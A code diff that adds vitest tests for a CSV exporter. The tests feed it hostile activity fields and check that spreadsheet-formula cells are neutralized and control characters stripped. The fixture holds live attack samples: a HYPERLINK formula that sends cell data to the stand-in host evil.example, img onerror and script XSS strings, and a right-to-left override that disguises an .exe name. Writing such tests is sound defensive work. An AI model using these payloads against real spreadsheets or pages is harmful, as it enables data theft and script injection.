@@ -1,7 +1,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { activitiesToCsv, csvChunks, CSV_COLUMNS, csvFileName } from '../lib/export/csv';
-import type { Activity } from '../lib/schema';
+import { activitySchema, type Activity } from '../lib/schema';
 import { draft } from './helpers';
 
 function activity(overrides: Partial<Activity> = {}): Activity {
@@ -52,6 +52,36 @@ describe('activitiesToCsv', () => {
     const cells = ['=HYPERLINK("http://x","y")', '+1+2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', '=1\n+2'];
     const { data } = parse(activitiesToCsv(cells.map((title, i) => activity({ id: `a${i}`, title }))));
     expect(data.map((r) => r.title)).toEqual(cells.map((c) => `'${c}`));
+  });
+});
+
+describe('hostile page text in the CSV', () => {
+  /** As the log holds it: parsed by the schema, as every write is. */
+  const hostile = activitySchema.parse(activity({
+    title: '=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> \u202efdp.exe\u202c\u0007 Core…',
+    organizer: '@SUM(1+1)\u0000', provider: undefined, courseCode: '+CEP\u001b1',
+    credits: [{ kind: 'CEU', amount: 1, unit: '-1+1\u0085', hours: 10 }],
+    notes: '-2+3\tcmd\r\nline 2, "quoted" <script>alert(1)</script>\u0000\u2066',
+  }));
+  const rtl = activity({ id: 'a2', title: 'تمارين المقاومة\u200f · אימון 💪🏽 🏋️‍♀️', notes: 'Individual’s “Why”' });
+
+  it('writes no control character but the line breaks and tabs of notes: the schema removed them before the log held them', () => {
+    const csv = activitiesToCsv([hostile, rtl]);
+    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+    expect(csv.replace(/[\r\n\t]/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    expect(csv).toContain('\tcmd\r\nline 2');
+  });
+
+  it('neutralizes every cell a spreadsheet would run, and reads back as stored through a CSV parser', () => {
+    const { data, errors } = parse(activitiesToCsv([hostile, rtl]));
+    expect(errors).toEqual([]);
+    expect(data).toHaveLength(2);
+    expect(data[0]).toMatchObject({
+      title: `'${hostile.title}`, provider: `'${hostile.organizer}`, course_code: `'${hostile.courseCode}`, unit: `'${hostile.credits[0].unit}`,
+      notes: `'${hostile.notes}`,
+    });
+    expect(hostile.title).toBe('=HYPERLINK("https://evil.example/?c="&A1,"Open") <img src=x onerror="alert(1)"> fdp.exe Core…');
+    expect(data[1]).toMatchObject({ title: rtl.title, notes: rtl.notes });
   });
 });
 
